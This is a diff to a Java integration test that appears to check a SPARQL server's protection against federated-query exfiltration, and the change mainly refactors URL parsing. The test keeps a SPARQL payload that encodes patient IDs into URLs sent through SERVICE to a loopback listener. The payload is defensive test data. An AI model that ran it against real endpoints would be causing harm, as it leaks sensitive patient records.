@@ -14,8 +14,6 @@ import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.List;
 import java.util.concurrent.TimeUnit;
-import java.util.regex.Matcher;
-import java.util.regex.Pattern;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
@@ -25,7 +23,6 @@ import org.junit.jupiter.api.io.TempDir;
  * reaching a loopback listener.
  */
 class ServeHardeningIT {
-    static final Pattern SERVING = Pattern.compile("serving (http://\\S+/) ");
 
     @TempDir
     Path dir;
@@ -43,10 +40,7 @@ class ServeHardeningIT {
                 "--cors-origin", "https://board.example");
         try (ServerSocket listener = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
             listener.setSoTimeout(500);
-            String out = Processes.awaitOutput(serve, serve.outFile(), t -> SERVING.matcher(t).find(), 300);
-            Matcher m = SERVING.matcher(out);
-            assertTrue(m.find());
-            URI sparql = URI.create(m.group(1)).resolve("mcrc/sparql");
+            URI sparql = Processes.awaitServing(serve).resolve("mcrc/sparql");
 
             String exfil = "PREFIX mcrc: <https://w3id.org/mcrc-kg/mcrc#> SELECT ?id WHERE { ?p mcrc:patient_id ?id "
                     + "BIND(IRI(CONCAT('http://127.0.0.1:" + listener.getLocalPort() + "/exfil/', ENCODE_FOR_URI(?id))) AS ?u) SERVICE SILENT ?u { ?s ?q ?o } }";
